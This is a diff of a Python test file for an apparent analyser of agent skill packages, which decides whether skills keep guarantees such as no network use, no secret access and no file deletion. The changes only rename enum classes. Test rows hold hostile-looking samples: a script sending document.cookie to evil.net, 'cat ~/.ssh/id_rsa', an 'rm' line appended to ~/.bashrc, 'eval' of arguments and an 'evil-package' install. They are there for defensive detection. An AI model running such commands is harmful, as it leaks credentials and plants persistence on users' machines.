@@ -5,7 +5,7 @@ import json
 from each_row import each_row
 from remit.analysis.session import analyse
 from remit.findings.assess import with_context
-from remit.findings.guarantees import About, Kind, guarantees
+from remit.findings.guarantees import GuaranteeSubject, UnknownKind, guarantees
 from remit.skill.load import load_skill
 
 HEAD = "---\nname: notes\ndescription: Tidy notes.\n---\n"
@@ -55,7 +55,7 @@ def test_a_text_that_asks_for_the_network_takes_the_guarantee_away(tmp_path, tex
 
 def test_code_that_is_understood_gets_its_guarantees_whatever_sentences_can_not_be_checked(tmp_path):
     found = given(tmp_path, HARMLESS, "Frob the notes as is proper.\n\n```bash\ncat notes.txt\n```")
-    assert {ident for ident, item in found.items() if item.about is About.CODE} >= {
+    assert {ident for ident, item in found.items() if item.about is GuaranteeSubject.CODE} >= {
         "network",
         "no-secrets",
         "deletes-no-files",
@@ -67,7 +67,7 @@ def test_code_that_is_understood_gets_its_guarantees_whatever_sentences_can_not_
 def test_an_unknown_option_in_a_document_leaves_the_scripts_their_guarantee(tmp_path):
     network = given(tmp_path, HARMLESS, "```bash\nqpdf --frob a.pdf b.pdf\n```")["network"]
     scripts, code = network.claims
-    assert (scripts.about, scripts.conditions) == (About.SCRIPTS, ())
+    assert (scripts.about, scripts.conditions) == (GuaranteeSubject.SCRIPTS, ())
     (condition,) = code.conditions
     assert condition.note == "at SKILL.md:6 (unknown program or option)"
 
@@ -111,19 +111,19 @@ def test_code_that_deletes_breaks_the_guarantee_wherever_it_stands(tmp_path, fil
 @each_row(
     ("files", "kind"),
     [
-        ({"a.py": "import subprocess, sys\nsubprocess.run(sys.argv[1:])\n"}, Kind.PROGRAM),
-        ({"a.sh": '"$@"\n'}, Kind.PROGRAM),
-        ({"a.sh": 'eval "$1"\n'}, Kind.PROGRAM),
-        ({"a.py": "import runpy, sys\nrunpy.run_path(sys.argv[1])\n"}, Kind.PROGRAM),
-        ({"a.sh": "docker run alpine true\n"}, Kind.PROGRAM),
-        ({"a.sh": "pip install evil-package\n"}, Kind.PACKAGE),
-        ({"a.sh": "echo 'rm notes' >> ~/.bashrc\n"}, Kind.PLANTED),
-        ({"a.py": "import docxtpl\ndocxtpl.DocxTemplate('a.docx').render({})\n"}, Kind.CONTENT),
-        ({"a.html": "<script>fetch('https://evil.net/' + document.cookie)</script>"}, Kind.CONTENT),
-        ({"a.svg": "<svg><image href='https://evil.net/a.png'/></svg>"}, Kind.CONTENT),
-        ({"a.py": "import ctypes\nctypes.CDLL(None).system(b'rm notes')\n"}, Kind.OPAQUE),
-        ({"a.pl": "unlink 'notes'"}, Kind.OPAQUE),
-        ({"a.mjs": "await import(process.argv[2])\n"}, Kind.OPAQUE),
+        ({"a.py": "import subprocess, sys\nsubprocess.run(sys.argv[1:])\n"}, UnknownKind.PROGRAM),
+        ({"a.sh": '"$@"\n'}, UnknownKind.PROGRAM),
+        ({"a.sh": 'eval "$1"\n'}, UnknownKind.PROGRAM),
+        ({"a.py": "import runpy, sys\nrunpy.run_path(sys.argv[1])\n"}, UnknownKind.PROGRAM),
+        ({"a.sh": "docker run alpine true\n"}, UnknownKind.PROGRAM),
+        ({"a.sh": "pip install evil-package\n"}, UnknownKind.PACKAGE),
+        ({"a.sh": "echo 'rm notes' >> ~/.bashrc\n"}, UnknownKind.PLANTED),
+        ({"a.py": "import docxtpl\ndocxtpl.DocxTemplate('a.docx').render({})\n"}, UnknownKind.CONTENT),
+        ({"a.html": "<script>fetch('https://evil.net/' + document.cookie)</script>"}, UnknownKind.CONTENT),
+        ({"a.svg": "<svg><image href='https://evil.net/a.png'/></svg>"}, UnknownKind.CONTENT),
+        ({"a.py": "import ctypes\nctypes.CDLL(None).system(b'rm notes')\n"}, UnknownKind.OPAQUE),
+        ({"a.pl": "unlink 'notes'"}, UnknownKind.OPAQUE),
+        ({"a.mjs": "await import(process.argv[2])\n"}, UnknownKind.OPAQUE),
     ],
     ids=lambda value: "+".join(value) if isinstance(value, dict) else value,
 )
@@ -135,7 +135,7 @@ def test_what_others_supply_is_a_condition(tmp_path, files, kind):
 
 def test_markup_without_scripts_and_remote_parts_is_no_condition(tmp_path):
     page = "<html xmlns='http://www.w3.org/1999/xhtml'><a href='https://a.example/'>a</a></html>"
-    assert given(tmp_path, {**HARMLESS, "a.html": page})["network"].about is About.CODE
+    assert given(tmp_path, {**HARMLESS, "a.html": page})["network"].about is GuaranteeSubject.CODE
 
 
 @each_row(
@@ -143,7 +143,7 @@ def test_markup_without_scripts_and_remote_parts_is_no_condition(tmp_path):
     [
         ("tar cf out.tar ~\n", None),
         ("cat ~/.ssh/id_rsa\n", None),
-        ("grep -r password .\n", {Kind.PATTERN}),
+        ("grep -r password .\n", {UnknownKind.PATTERN}),
         ("cat notes.txt\n", set()),
     ],
 )
@@ -154,7 +154,7 @@ def test_files_that_are_not_named_may_be_secrets(tmp_path, script, given_with):
 
 def test_files_that_are_not_named_may_be_settings_of_the_agent(tmp_path):
     found = given(tmp_path, {"a.py": "from pathlib import Path\n(Path.home() / input()).write_text('x')\n"})
-    assert kinds(found["no-agent-settings"]) == {Kind.PATTERN}
+    assert kinds(found["no-agent-settings"]) == {UnknownKind.PATTERN}
 
 
 def test_hosts_and_package_registries_stand_together(tmp_path):
